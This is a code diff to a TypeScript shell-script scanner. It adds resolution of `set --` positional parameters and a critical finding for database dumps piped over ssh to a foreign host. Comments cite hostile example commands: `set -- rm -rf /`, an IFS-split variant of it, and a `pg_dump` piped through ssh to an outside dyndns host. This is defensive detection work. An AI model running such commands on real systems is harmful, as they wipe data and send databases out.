@@ -169,7 +169,8 @@ function scanSource(source: string, scan: ShellScan): void {
     shellFallback(text, scan);
     return;
   }
-  if (text.includes('=')) collectVariables(file, scan);
+  // Assignments, and `set --` (the positional parameters `"$@"` expands to).
+  if (text.includes('=') || text.includes('set --')) collectVariables(file, scan);
   const walker = new Walker(scan);
   walker.statements(file.Stmts, emptySite());
   if (walker.interactiveInterpreter !== undefined) {
@@ -212,8 +213,30 @@ function collectVariables(file: ShellNode, scan: ShellScan): void {
       if (!value.dynamic) scan.vars.set(node.Name.Value, value.text);
       return false;
     }
+    if (node.type === 'CallExpr') positionalParameters(node.Args ?? [], evaluator, scan.vars);
     return true;
   });
+}
+
+/**
+ * `set -- rm -rf /` gives the script's positional parameters literal values, which `"$@"` expands to
+ * (one word each). An unquoted word is split at a non-blank IFS the script set (`IFS=,; set -- rm,-rf,/`).
+ */
+function positionalParameters(args: ShellNode[], evaluator: WordEvaluator, vars: Map<string, string>): void {
+  if (args.length < 3) return;
+  const literal = (node: ShellNode): string | undefined =>
+    node.Parts?.length === 1 && node.Parts[0].type === 'Lit' ? String(node.Parts[0].Value) : undefined;
+  if (literal(args[0]) !== 'set' || literal(args[1]) !== '--') return;
+  const ifs = vars.get('IFS');
+  const separator = ifs !== undefined && ifs.length === 1 && !/\s/.test(ifs) ? ifs : undefined;
+  const words: string[] = [];
+  for (const node of args.slice(2)) {
+    const word = evaluator.word(node);
+    if (word.dynamic) return;
+    if (separator !== undefined && literal(node) !== undefined) words.push(...word.text.split(separator).filter(Boolean));
+    else words.push(word.text);
+  }
+  vars.set('@', words.join(' '));
 }
 
 class Walker {
@@ -529,6 +552,10 @@ class Walker {
             .find((name) => RAW_SENDERS.has(name));
     if (dumpSender !== undefined)
       this.scan.add('critical', `shell: sends a database dump over the network (${summaries[dumper].name} | ${dumpSender})`);
+    // `pg_dump … | gzip | ssh me@home.dyndns.org 'cat > d.gz'`: ssh is a backup channel, but not to a host nobody here owns.
+    const foreign = dumper < 0 || dumpSender !== undefined ? undefined : summaries.slice(dumper + 1).find((summary) => summary.foreignHost);
+    if (foreign !== undefined)
+      this.scan.add('critical', `shell: sends a database dump to a ${foreign.foreignHost} (${summaries[dumper].name} | ${foreign.name})`);
     const joined = joinSummaries(summaries);
     joined.output = summaries[summaries.length - 1]?.output;
     joined.downloader = stdinFromDownload;
